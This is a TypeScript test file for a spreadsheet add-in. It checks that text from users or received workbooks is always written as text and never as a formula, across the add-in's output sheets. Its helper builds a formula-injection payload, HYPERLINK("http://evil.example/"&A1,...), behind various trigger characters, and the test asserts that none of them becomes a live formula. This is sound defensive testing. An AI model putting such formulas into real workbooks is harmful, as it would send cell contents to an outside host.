/** What a user, or whoever sent the workbook, wrote is text wherever the add-in writes it: never a formula. */
import type { Case, Driver, Metric } from '../../src/case/case';
import type { SavedEvaluation } from '../../src/case/evaluation/history';
import { writeBrief } from '../../src/case/output-sheets/brief-sheet';
import { createCaseStore } from '../../src/case/case-store';
import { writeChangeBridge } from '../../src/case/output-sheets/change-bridge-sheet';
import { writeChallenge } from '../../src/case/output-sheets/challenge-sheet';
import { writeChecks } from '../../src/case/output-sheets/checks-sheet';
import { writeFollowThrough } from '../../src/case/output-sheets/follow-through-sheet';
import { writeRisk } from '../../src/case/output-sheets/risk-sheet';
import { writeSensitivities } from '../../src/case/output-sheets/sensitivities-sheet';
import { writeTradeOffs } from '../../src/case/output-sheets/trade-offs-sheet';
import { writeWaterfall } from '../../src/case/output-sheets/waterfall-sheet';
import { say } from '../../src/case/said';
import type { Workbook } from '../../src/workbook/workbook';
import { excelWorkbook } from '../../src/workbook/excel-workbook';
import { openExcel } from '../support/excel-in-node';
import { MODEL, sampleCase } from './sample-case';

/** Replaces every text that is the user's own; what is one of a list stays. */
function hostile(text: string, begin: string): string {
  return `${begin}HYPERLINK("http://evil.example/"&A1,"${text}")`;
}

/** A formula without the texts in quotes that it holds, in which anything may stand. */
function withoutStrings(formula: string): string {
  return formula.replace(/"(?:[^"]|"")*"/g, '""');
}

/** The sheets of Compare, Drivers, Risk and History, with figures that do not matter here. */
async function writeAnalyses(workbook: Workbook, of: Case): Promise<void> {
  const [base, alternative] = of.alternatives.map(({ name }) => name) as [string, string];
  const [{ name: metric, unit }] = of.metrics as [Metric];
  const [driver] = of.drivers as [Driver];
  const figures = { before: 1, after: 2 };
  const step = { driver: driver.name, unit: driver.unit, address: 'Inputs!B1', ...figures };
  await writeWaterfall(workbook, {
    ...{ base, alternative, metric, unit, start: 1, end: 2, sampledOrders: null },
    steps: [{ ...step, amount: 1, standardError: 0, from: 1, to: 2 }],
  });
  const kept = { name: metric, time: '', comment: metric, drivers: [], results: [] };
  await writeChangeBridge(workbook, of, {
    ...{ question: { from: metric, to: alternative, alternative, metric }, unit, ...figures },
    from: kept as unknown as SavedEvaluation,
    to: { ...kept, name: alternative } as unknown as SavedEvaluation,
    ...{ changed: [], unknown: [driver.name], modelChanged: true, rest: 0, method: 'every order' },
    steps: [{ driver, ...figures, part: 1 }],
  });
  await writeSensitivities(workbook, of, [
    {
      ...{ driver: driver.name, metric, alternative, base: 1, atBase: 1, atLow: 0, atHigh: 2 },
      switching: { value: 1, against: base },
    },
  ]);
  const outcome = {
    ...{ mean: 1, sd: 1, meanError: 1, probabilityNegative: 0, probabilityMissed: null },
    ...{ percentiles: [{ share: 0.5, value: 1 }], lowestTwentieth: 0, computed: 9 },
  };
  await writeRisk(workbook, of, {
    ...{
      trials: 9,
      seed: 1,
      metrics: of.metrics,
      verification: say('unexpected', { reason: metric }),
      regret: of.metrics.map(() => null),
    },
    alternatives: of.alternatives.map(({ name }) => ({ name, metrics: of.metrics.map(() => outcome) })),
  });
}

it.each(['=', '+', '-', '@', '\t=', '\r=', '\n@', ' +', '＝', "'="])(
  'text that begins with %j stays text on every sheet',
  async (begin) => {
    const excel = await openExcel({ sheets: MODEL });
    try {
      const workbook = excelWorkbook();
      const of = sampleCase();
      const h = (text: string): string => hostile(text, begin);
      const names = new Map(of.alternatives.map(({ name }, i) => [name, i === 0 ? name : h(name)]));
      const store = createCaseStore({ workbook, eventGrace: 0 });
      await store.create({
        ...of,
        decision: {
          ...of.decision,
          decision: h('d'),
          owner: h('o'),
          businessReason: h('r'),
          stakeholders: h('s'),
        },
        alternatives: of.alternatives.map((one) => ({
          ...one,
          name: names.get(one.name)!,
          description: h('what'),
        })),
        drivers: of.drivers.map((one) => ({
          ...one,
          name: h(one.name),
          unit: h('u'),
          source: h('s'),
          owner: h('o'),
          values: Object.fromEntries(
            Object.entries(one.values).map(([name, value]) => [names.get(name)!, value]),
          ),
        })),
        metrics: of.metrics.map((one) => ({ ...one, name: h(one.name), unit: h('u'), owner: h('o') })),
        effects: of.effects.map((one) => ({
          ...one,
          party: h('p'),
          alternative: names.get(one.alternative)!,
        })),
        followThrough: of.followThrough.map((one) => ({ ...one, metric: h('Profit'), action: h('a') })),
      });
      await store.evaluate();
      const { case: saved, freshness } = store.getState();
      await writeTradeOffs(workbook, saved!, freshness);
      await writeBrief(workbook, { freshness });
      await writeFollowThrough(workbook);
      await writeChecks(workbook);
      await writeChallenge(workbook, { today: '2026-03-01' });
      await writeAnalyses(workbook, saved!);
      await store.load();
      expect(store.getState().case!.decision.decision.trim()).toBe(h('d').trim());
      expect(store.getState().case!.results).toHaveLength(6);
      let texts = 0;
      for (const { id } of excel.grid.sheets()) {
        const used = excel.grid.usedArea(id, true);
        if (!used) continue;
        const area = { sheet: id, ...used };
        for (const formula of excel.grid.formulas(area).flat())
          expect(withoutStrings(formula ?? '')).not.toMatch(/HYPERLINK\s*\(|evil\./i);
        texts += excel.grid
          .values(area)
          .flat()
          .filter((value) => String(value).includes('evil')).length;
      }
      expect(texts).toBeGreaterThan(40);
    } finally {
      await excel.close();
    }
  },
);
